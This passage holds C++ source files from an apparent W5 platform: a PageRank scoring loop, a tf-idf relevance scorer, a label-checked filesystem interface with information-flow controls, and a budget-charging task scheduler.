  for (const Edge& edge : graph.edges())
    out_weight[edge.from] += weight_of(edge);

  std::vector<double> scores(n, 1.0 / static_cast<double>(n));
  std::vector<double> next(n, 0.0);

  for (std::size_t iter = 0; iter < options.max_iterations; ++iter) {
    std::fill(next.begin(), next.end(),
              (1.0 - options.damping) / static_cast<double>(n));

    // Dangling mass (nodes with no outgoing edges) spreads uniformly.
    double dangling = 0.0;
    for (std::size_t i = 0; i < n; ++i)
      if (out_weight[i] == 0.0) dangling += scores[i];
    const double dangling_share =
        options.damping * dangling / static_cast<double>(n);
    for (double& score : next) score += dangling_share;

    for (const Edge& edge : graph.edges()) {
      next[edge.to] += options.damping * scores[edge.from] *
                       (weight_of(edge) / out_weight[edge.from]);
    }

    double delta = 0.0;
    for (std::size_t i = 0; i < n; ++i)
      delta += std::abs(next[i] - scores[i]);
    scores.swap(next);
    result.iterations = iter + 1;
    if (delta < options.epsilon) {
      result.converged = true;
      break;
    }
  }
  result.scores = std::move(scores);
  return result;
}

std::vector<std::pair<std::string, double>> PageRankResult::ranked(
    const DependencyGraph& graph) const {
  std::vector<std::pair<std::string, double>> out;
  out.reserve(scores.size());
  for (std::size_t i = 0; i < scores.size(); ++i)
    out.emplace_back(graph.name_of(static_cast<std::uint32_t>(i)), scores[i]);
  std::stable_sort(out.begin(), out.end(), [](const auto& a, const auto& b) {
    return a.second > b.second;
  });
  return out;
}

}  // namespace w5::rank
