// Tf-idf-ish relevance scoring for merged result lists (DESIGN.md §18).
//
// The federated metasearch plane ranks records pulled from several
// providers, so the scorer is corpus-relative: term frequency inside one
// document, discounted by how many documents in the merged set mention
// the term at all (the pazpar2 relevance.c recipe, without its stemming).
// Scores are deterministic for a fixed (terms, documents) input — the
// merge layer depends on that for stable cursor pagination.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace w5::rank {

// Lowercased alphanumeric tokens; every other byte separates. "Sunset,
// Beach!" -> {"sunset", "beach"}.
std::vector<std::string> tokenize(const std::string& text);

class RelevanceScorer {
 public:
  // Terms are matched as whole tokens. An empty term list scores every
  // document 0 (the merge layer then ranks by its other signals).
  explicit RelevanceScorer(std::vector<std::string> terms);

  // Adds one document; documents are indexed in insertion order.
  void add_document(const std::string& text);

  std::size_t documents() const noexcept { return doc_lengths_.size(); }

  // True when every query term occurs in the document (AND semantics —
  // metasearch filters at the source with the same rule).
  bool matches(std::size_t doc) const;

  // Sum over terms of (tf / doc_len) * idf, idf = ln(1 + N / df).
  // 0 for documents missing from range or when there are no terms.
  double score(std::size_t doc) const;

  // Largest score over all documents (0 when none score) — callers
  // normalize against this so text relevance combines with other
  // bounded signals on equal footing.
  double max_score() const;

 private:
  std::vector<std::string> terms_;
  // tf_[doc][term] — documents are few (a merge window), terms fewer.
  std::vector<std::vector<std::uint32_t>> tf_;
  std::vector<std::uint32_t> doc_lengths_;
  std::vector<std::uint32_t> df_;  // per term, over added documents
};

}  // namespace w5::rank
