#include "rank/relevance.h"

#include <algorithm>
#include <cctype>
#include <cmath>

namespace w5::rank {

std::vector<std::string> tokenize(const std::string& text) {
  std::vector<std::string> tokens;
  std::string current;
  for (const char c : text) {
    if (std::isalnum(static_cast<unsigned char>(c))) {
      current += static_cast<char>(
          std::tolower(static_cast<unsigned char>(c)));
    } else if (!current.empty()) {
      tokens.push_back(std::move(current));
      current.clear();
    }
  }
  if (!current.empty()) tokens.push_back(std::move(current));
  return tokens;
}

RelevanceScorer::RelevanceScorer(std::vector<std::string> terms)
    : terms_(std::move(terms)), df_(terms_.size(), 0) {}

void RelevanceScorer::add_document(const std::string& text) {
  const std::vector<std::string> tokens = tokenize(text);
  std::vector<std::uint32_t> tf(terms_.size(), 0);
  for (const std::string& token : tokens) {
    for (std::size_t t = 0; t < terms_.size(); ++t) {
      if (token == terms_[t]) ++tf[t];
    }
  }
  for (std::size_t t = 0; t < terms_.size(); ++t) {
    if (tf[t] > 0) ++df_[t];
  }
  doc_lengths_.push_back(
      static_cast<std::uint32_t>(std::max<std::size_t>(tokens.size(), 1)));
  tf_.push_back(std::move(tf));
}

bool RelevanceScorer::matches(std::size_t doc) const {
  if (doc >= tf_.size()) return false;
  return std::all_of(tf_[doc].begin(), tf_[doc].end(),
                     [](std::uint32_t count) { return count > 0; });
}

double RelevanceScorer::score(std::size_t doc) const {
  if (doc >= tf_.size() || terms_.empty()) return 0.0;
  const double n = static_cast<double>(documents());
  double total = 0.0;
  for (std::size_t t = 0; t < terms_.size(); ++t) {
    const std::uint32_t tf = tf_[doc][t];
    if (tf == 0 || df_[t] == 0) continue;
    const double idf = std::log(1.0 + n / static_cast<double>(df_[t]));
    total += (static_cast<double>(tf) /
              static_cast<double>(doc_lengths_[doc])) *
             idf;
  }
  return total;
}

double RelevanceScorer::max_score() const {
  double best = 0.0;
  for (std::size_t doc = 0; doc < tf_.size(); ++doc)
    best = std::max(best, score(doc));
  return best;
}

}  // namespace w5::rank
