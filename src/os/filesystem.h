// Labeled filesystem (paper §2: the platform tracks data "to and from
// persistent storage"; §3.1: "all user data on a W5 cluster is by default
// write-protected").
//
// A hierarchical tree of directories and files, each carrying
// ObjectLabels. Reads and writes are checked against the calling
// process's effective label state; directory listings are filtered to the
// caller's clearance so file *names* cannot become a covert channel.
#pragma once

#include <map>
#include <memory>
#include <optional>
#include <shared_mutex>
#include <string>
#include <vector>

#include "difc/flow.h"
#include "os/kernel.h"
#include "util/json.h"
#include "util/mutation_log.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::os {

enum class AutoRaise : std::uint8_t { kNo, kYes };

struct FileStat {
  bool is_directory = false;
  std::size_t size = 0;
  difc::ObjectLabels labels;
};

// Thread-safe: one coarse shared_mutex over the tree — shared for
// read/list/stat/to_json, exclusive for anything that changes structure,
// content, or labels. The tree is small and traversals are cheap; request
// parallelism comes from the sharded LabeledStore, not the filesystem.
// Lock order: filesystem → kernel (FileSystem methods call the kernel for
// label checks and charges while holding the tree lock; the kernel never
// calls back into the filesystem).
class FileSystem {
 public:
  explicit FileSystem(Kernel& kernel);

  FileSystem(const FileSystem&) = delete;
  FileSystem& operator=(const FileSystem&) = delete;

  // Creates a directory (parents must exist). Requires write permission
  // on the parent and a label the creator could legally stamp.
  util::Status mkdir(Pid pid, const std::string& path,
                     const difc::ObjectLabels& labels);

  // Creates a file with explicit labels. The creator's secrecy must fit
  // inside the file's label (no leaking into content) and the requested
  // integrity must be endorsable by the creator.
  util::Status create(Pid pid, const std::string& path,
                      const difc::ObjectLabels& labels,
                      std::string content = {});

  // Reads; with AutoRaise::kYes the kernel raises the caller's secrecy to
  // admit the file when it can (the common W5 app pattern: touch user
  // data, get contaminated).
  util::Result<std::string> read(Pid pid, const std::string& path,
                                 AutoRaise raise = AutoRaise::kNo);

  // Overwrites; write-protection (integrity) and no-leak (secrecy) rules.
  util::Status write(Pid pid, const std::string& path, std::string content);

  util::Status append(Pid pid, const std::string& path,
                      const std::string& content);

  // Deletion obeys the same write rule — vandalism is a write (§3.1).
  util::Status unlink(Pid pid, const std::string& path);

  // Entries whose secrecy exceeds the caller's *clearance* are invisible,
  // not errors: their existence must not leak.
  util::Result<std::vector<std::string>> list(Pid pid,
                                              const std::string& path);

  util::Result<FileStat> stat(Pid pid, const std::string& path);

  // Re-labels a file; caller needs dual authority over the delta plus
  // write permission (used by the provider's own tools).
  util::Status relabel(Pid pid, const std::string& path,
                       const difc::ObjectLabels& labels);

  // Snapshot persistence: labels travel with data (paper §1 "policies ...
  // attached to their data").
  util::Json to_json() const;
  util::Status load_json(const util::Json& snapshot);

  // ---- Durability (DESIGN.md §13) -------------------------------------------
  // With a log attached, every successful mutation publishes an fs.put
  // (full node post-state: path, kind, labels, content) or fs.remove op
  // before returning. Full state per op keeps replay idempotent.
  void set_mutation_log(util::MutationLog* log) { mutation_log_ = log; }

  // TRUSTED replay apply: reinstates the logged post-state without flow
  // checks or charges (the original mutation already paid them).
  util::Status apply_wal(const util::Json& op);

 private:
  struct Node {
    bool is_directory = false;
    difc::ObjectLabels labels;
    std::string content;                           // files only
    std::map<std::string, std::unique_ptr<Node>> children;  // dirs only
  };

  // Callers must hold mutex_ (shared suffices for resolve).
  util::Result<Node*> resolve(const std::string& path)
      W5_REQUIRES_SHARED(mutex_);
  util::Result<Node*> resolve_parent(const std::string& path,
                                     std::string* leaf)
      W5_REQUIRES_SHARED(mutex_);
  util::Result<difc::LabelState> caller(Pid pid) const;

  static util::Json node_to_json(const Node& node);
  static util::Result<std::unique_ptr<Node>> node_from_json(
      const util::Json& j);

  // Enqueue an op while holding mutex_ exclusively (sequence order must
  // match lock order); return 0 when no log is attached. The caller
  // releases the lock and then waits on the returned sequence.
  std::uint64_t log_put_locked(const std::string& path, const Node& node)
      W5_REQUIRES(mutex_);
  std::uint64_t log_remove_locked(const std::string& path)
      W5_REQUIRES(mutex_);

  Kernel& kernel_;
  mutable util::SharedMutex mutex_{util::lockrank::kFileSystem,
                                    "FileSystem::mutex_"};
  std::unique_ptr<Node> root_ W5_GUARDED_BY(mutex_);
  util::MutationLog* mutation_log_ = nullptr;  // set once at wiring time
};

}  // namespace w5::os
