#include "os/scheduler.h"

namespace w5::os {

std::uint64_t Scheduler::submit(std::string name, Pid pid, TaskStep step) {
  Task task;
  task.info.id = next_id_++;
  task.info.name = std::move(name);
  task.pid = pid;
  task.step = std::move(step);
  tasks_.push_back(std::move(task));
  return tasks_.back().info.id;
}

std::size_t Scheduler::round() {
  std::size_t steps = 0;
  for (auto& task : tasks_) {
    if (task.info.state != TaskState::kReady) continue;
    if (task.pid != kKernelPid) {
      // Charge before running: a task with no budget left gets no slice.
      if (auto charged = kernel_.charge(task.pid, Resource::kCpu, 1);
          !charged.ok()) {
        task.info.state = TaskState::kKilled;
        task.info.kill_reason = charged.error().detail;
        continue;
      }
    }
    ++task.info.ticks_used;
    ++steps;
    if (task.step()) task.info.state = TaskState::kDone;
  }
  return steps;
}

std::int64_t Scheduler::run(std::int64_t max_ticks) {
  std::int64_t used = 0;
  while (used < max_ticks) {
    const std::size_t steps = round();
    if (steps == 0) break;
    used += static_cast<std::int64_t>(steps);
  }
  return used;
}

const TaskInfo* Scheduler::info(std::uint64_t id) const {
  for (const auto& task : tasks_)
    if (task.info.id == id) return &task.info;
  return nullptr;
}

std::size_t Scheduler::ready_count() const {
  std::size_t n = 0;
  for (const auto& task : tasks_)
    if (task.info.state == TaskState::kReady) ++n;
  return n;
}

std::vector<TaskInfo> Scheduler::snapshot() const {
  std::vector<TaskInfo> out;
  out.reserve(tasks_.size());
  for (const auto& task : tasks_) out.push_back(task.info);
  return out;
}

}  // namespace w5::os
